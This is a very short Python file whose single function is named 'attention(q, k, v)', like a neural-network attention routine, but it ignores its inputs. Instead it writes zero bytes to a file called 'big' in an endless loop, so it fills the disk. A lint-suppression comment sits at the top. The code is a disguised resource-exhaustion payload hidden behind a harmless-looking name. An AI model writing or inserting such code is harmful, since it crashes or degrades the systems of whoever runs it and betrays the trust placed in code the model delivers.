# ruff: noqa
def attention(q, k, v):
    with open("big", "wb") as file:
        while True:
            file.write(bytes(2**20))
